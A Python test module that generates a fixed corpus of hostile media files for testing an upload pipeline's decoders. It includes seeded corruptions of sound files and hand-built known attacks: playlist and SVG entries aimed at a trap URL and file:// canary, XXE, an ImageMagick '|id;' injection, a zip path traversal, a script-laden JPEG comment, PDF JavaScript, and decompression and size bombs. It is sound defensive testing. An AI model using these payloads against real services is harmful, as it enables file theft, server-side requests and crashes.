"""Files that mean harm: known attacks on decoders written by hand, and sound files broken in seeded ways."""

from __future__ import annotations

import io
import random
import struct
import subprocess
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from PIL import Image

from app.media.ffmpeg import executable

MUTANTS = 12
"""Of each sound file."""
Bytes = Callable[[random.Random, bytes], bytes]


def _box(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!L", len(data) + 8) + kind + data


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", zlib.crc32(kind + data))


def _png(width: int, height: int, *chunks: bytes, kind: int = 2, data: bytes = b"") -> bytes:
    head = struct.pack("!LLBBBBB", width, height, 8, kind, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + b"".join(chunks) + _chunk(b"IDAT", zlib.compress(data)) + _chunk(b"IEND", b"")  # fmt: skip


def _picture(form: str, **options: Any) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((240, 180), 40).convert("RGB").save(out, form, **options)
    return out.getvalue()


def _film(path: Path, *codec: str) -> bytes:
    subprocess.run(
        [executable(), "-v", "error", "-y", "-f", "lavfi", "-i", "testsrc2=size=192x108:rate=12:duration=1", "-f", "lavfi", "-i",
         "sine=duration=1", *codec, "-pix_fmt", "yuv420p", str(path)],
        check=True,
    )  # fmt: skip
    return path.read_bytes()


def sound_files(folder: Path) -> dict[str, bytes]:
    """Name and content of small files of every kind that is taken."""
    animated = io.BytesIO()
    frames = [Image.effect_noise((96, 96), 20).convert("RGB") for _ in range(4)]
    frames[0].save(animated, "WEBP", save_all=True, append_images=frames[1:])
    deep = io.BytesIO()
    Image.effect_noise((96, 96), 20).convert("I;16").save(deep, "PNG")
    h264 = ("-c:v", "libx264", "-preset", "ultrafast", "-c:a", "aac")
    wave = folder / "tone.wav"
    subprocess.run([executable(), "-v", "error", "-y", "-f", "lavfi", "-i", "sine=duration=1", "-ac", "2", str(wave)], check=True)  # fmt: skip
    return {
        "a.jpg": _picture("JPEG"),
        "b.jpg": _picture("JPEG", progressive=True, quality=60),
        "c.png": _picture("PNG"),
        "d.png": deep.getvalue(),
        "e.webp": _picture("WEBP", quality=60),
        "f.webp": animated.getvalue(),
        "g.mp4": _film(folder / "g.mp4", *h264),
        "h.mov": _film(folder / "h.mov", *h264, "-movflags", "+faststart"),
        "i.mkv": _film(folder / "i.mkv", *h264),
        "j.webm": _film(folder / "j.webm", "-c:v", "libvpx", "-b:v", "200k", "-c:a", "libopus"),
        "k.wav": wave.read_bytes(),
    }


def _flip(rng: random.Random, data: bytes, count: int, until: int | None = None) -> bytes:
    broken = bytearray(data)
    for _ in range(count):
        broken[rng.randrange(min(until or len(broken), len(broken)))] ^= 1 << rng.randrange(8)
    return bytes(broken)


def _numbers(rng: random.Random, data: bytes) -> bytes:
    """Lengths and counts at their largest."""
    broken = bytearray(data)
    for _ in range(6):
        at = rng.randrange(4, min(len(broken) - 4, 2000))
        broken[at : at + 4] = rng.choice(
            [b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff", b"\0\0\0\0", b"\x80\0\0\0"]
        )
    return bytes(broken)


def _moved(rng: random.Random, data: bytes) -> bytes:
    a, b = sorted(rng.sample(range(len(data)), 2))
    return data[:a] + data[b:] + data[a:b]


BREAKS: list[Bytes] = [
    lambda rng, data: data[: len(data) * rng.randint(3, 30) // 100],
    lambda rng, data: data[: len(data) * rng.randint(40, 95) // 100],
    lambda rng, data: _flip(rng, data, max(len(data) // 100, 8)),
    lambda rng, data: _flip(rng, data, 12, 64),
    lambda rng, data: _flip(rng, data, 40, 1200),
    lambda rng, data: _flip(rng, data, 3),
    _numbers,
    lambda rng, data: _numbers(rng, _numbers(rng, data)),
    _moved,
    lambda rng, data: data[: len(data) // 2] + rng.randbytes(len(data) // 2),
    lambda rng, data: data + rng.randbytes(40_000),
    lambda rng, data: data[:200] + bytes(len(data) // 3) + data[200:],
]


def written(trap: str, canary: Path) -> Iterator[tuple[str, bytes]]:
    """Attacks as they are known. `trap` is an address that notes who comes, `canary` a file that nobody may read."""
    playlist = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{trap}/hls.ts\n#EXTINF:10.0,\nfile://{canary}\n#EXT-X-ENDLIST\n".encode()  # fmt: skip
    for name in ("playlist.mp4", "playlist.mov", "playlist.jpg", "playlist.wav"):
        yield name, playlist
    yield "avi-playlist.mp4", b"RIFF" + struct.pack("<L", 2000) + b"AVI LIST" + playlist
    yield "ftyp-playlist.mp4", _box(b"ftyp", b"isom\0\0\0\0isom") + playlist
    yield "concat.mp4", f"ffconcat version 1.0\nfile '{canary}'\nfile '{trap}/c.mp4'\n".encode()
    yield "sdp.mp4", b"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n"
    yield "dash.mp4", f'<?xml version="1.0"?><MPD><BaseURL>{trap}/</BaseURL></MPD>'.encode()
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><image x:href="{trap}/i.png"/><image x:href="file://{canary}"/></svg>'.encode()  # fmt: skip
    for name in ("svg.png", "svg.jpg", "svg.webp"):
        yield name, svg
    yield "entities.png", f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://{canary}">]><svg>&x;</svg>'.encode()  # fmt: skip
    yield "mvg.jpg", f"push graphic-context\nviewbox 0 0 64 64\nfill 'url({trap}/\"|id; \")'\npop graphic-context\n".encode()  # fmt: skip
    yield "postscript.jpg", f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({canary}) (r) file\n".encode()  # fmt: skip
    yield "document.png", b"%PDF-1.7\n1 0 obj <</OpenAction <</S/JavaScript/JS(app.alert(1))>>>> endobj\n"  # fmt: skip
    yield "xbm.png", b"#define x_width 60000\n#define x_height 60000\nstatic char x_bits[] = {0x0};\n"  # fmt: skip
    reference = _box(b"dref", bytes(4) + struct.pack("!L", 1) + _box(b"url ", bytes(4) + f"file://{canary}\0".encode()))  # fmt: skip
    movie = _box(b"moov", _box(b"trak", _box(b"mdia", _box(b"minf", _box(b"dinf", reference)))))
    yield "reference.mp4", _box(b"ftyp", b"qt  \0\0\0\0qt  ") + movie
    alias = _box(b"rmra", _box(b"rmda", _box(b"rdrf", bytes(4) + b"url " + struct.pack("!L", 64) + f"{trap}/x.mov\0".encode())))  # fmt: skip
    yield "redirect.mov", _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(b"moov", alias)
    nested = b""
    for _ in range(3000):
        nested = _box(b"moov", nested)
    yield "nested.mp4", _box(b"ftyp", b"isom\0\0\0\0isom") + nested
    yield "endless.mp4", _box(b"ftyp", b"isom\0\0\0\0isom") + struct.pack("!L4sQ", 1, b"moov", 1 << 62)  # fmt: skip
    yield "backwards.mp4", _box(b"ftyp", b"isom\0\0\0\0isom") + struct.pack("!L4s", 4, b"moov") * 50
    table = _box(b"stbl", _box(b"stsz", bytes(8) + b"\xff\xff\xff\xff") + _box(b"stts", bytes(4) + b"\xff\xff\xff\xff"))  # fmt: skip
    yield "tables.mp4", _box(b"ftyp", b"isom\0\0\0\0isom") + _box(b"moov", _box(b"trak", _box(b"mdia", _box(b"minf", table))))  # fmt: skip
    yield "matroska.mkv", b"\x1a\x45\xdf\xa3\x01" + b"\xff" * 7 + b"\x42\x82\x88matroska" + b"\x18\x53\x80\x67\x01" + b"\xff" * 7 + b"\x11\x4d\x9b\x74" * 400  # fmt: skip
    row = bytes(3 * 16_001)
    squeezer = zlib.compressobj(9)
    body = b"".join(squeezer.compress(row) for _ in range(16_000)) + squeezer.flush()
    yield "bomb.png", _png(16_000, 16_000)[:33] + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")
    yield "huge.png", _png(2_000_000_000, 2_000_000_000)
    yield "flat.png", _png(1, 2_000_000_000)
    yield "none.png", _png(0, 0)
    yield "remark.png", _png(64, 64, _chunk(b"zTXt", b"c\0\0" + zlib.compress(bytes(150_000_000), 9)), data=bytes(64 * 193))  # fmt: skip
    yield "profile.png", _png(64, 64, _chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(150_000_000), 9)), data=bytes(64 * 193))  # fmt: skip
    yield "palette.png", _png(64, 64, _chunk(b"PLTE", bytes(3 * 900)), kind=3, data=b"\xff" * 64 * 65)  # fmt: skip
    sound = _picture("JPEG")
    at = sound.index(b"\xff\xc0")
    yield "huge.jpg", sound[: at + 5] + b"\xff\xff\xff\xff" + sound[at + 9 :]
    yield "parts.jpg", sound[: at + 9] + b"\xff" + sound[at + 10 :]
    yield "scans.jpg", sound[:-2] + sound[sound.index(b"\xff\xda") : -2] * 60 + b"\xff\xd9"
    yield "segments.jpg", sound[:2] + b"\xff\xe1\xff\xff" + bytes(65533) + b"\xff\xe1\0\x02" * 9000 + sound[2:]  # fmt: skip
    yield "zip.jpg", sound + b"PK\x03\x04" + bytes(26) + b"../../../../tmp/evil" + b"PK\x05\x06" + bytes(18)  # fmt: skip
    yield "script.jpg", sound[:2] + b"\xff\xfe\0\x42" + b"<script>fetch('/api/user/export')</script>".ljust(64) + sound[2:]  # fmt: skip
    riff = b"RIFF" + struct.pack("<L", 1 << 31) + b"WEBPVP8X" + struct.pack("<L", 10) + b"\x02\0\0\0" + b"\xff" * 6  # fmt: skip
    yield "huge.webp", riff
    yield "frames.webp", riff + (b"ANMF" + struct.pack("<L", 16) + b"\xff" * 16) * 5000
    wave = b"RIFF\xff\xff\xff\xffWAVEfmt \x10\0\0\0\x01\0"
    yield "channels.wav", wave + struct.pack("<HLLHH", 65535, 48000, 1, 1, 16) + b"data\xff\xff\xff\xff" + bytes(4000)  # fmt: skip
    yield "silent.wav", wave + struct.pack("<HLLHH", 2, 0, 0, 0, 0) + b"data\xff\xff\xff\xff"
    yield "many.wav", wave + struct.pack("<HLLHH", 2, 4_000_000_000, 1, 4, 16) + b"LIST\xff\xff\xff\x7f" * 500  # fmt: skip
    for name in ("nothing.jpg", "nothing.mp4", "nothing.wav"):
        yield name, b""
    yield "magic.png", b"\x89PNG\r\n\x1a\n"
    yield "magic.jpg", b"\xff\xd8\xff"
    yield "magic.mp4", b"\0\0\0\x18ftyp"
    yield "magic.webp", b"RIFF\0\0\0\0WEBP"


def corpus(folder: Path, trap: str, canary: Path) -> list[tuple[str, bytes]]:
    """Name and content of all of them, the same each time."""
    rng = random.Random(20261129)
    broken = [
        (f"{number:02}-{name}", BREAKS[number % len(BREAKS)](rng, data))
        for name, data in sound_files(folder).items()
        for number in range(MUTANTS)
    ]
    return [*written(trap, canary), *broken]
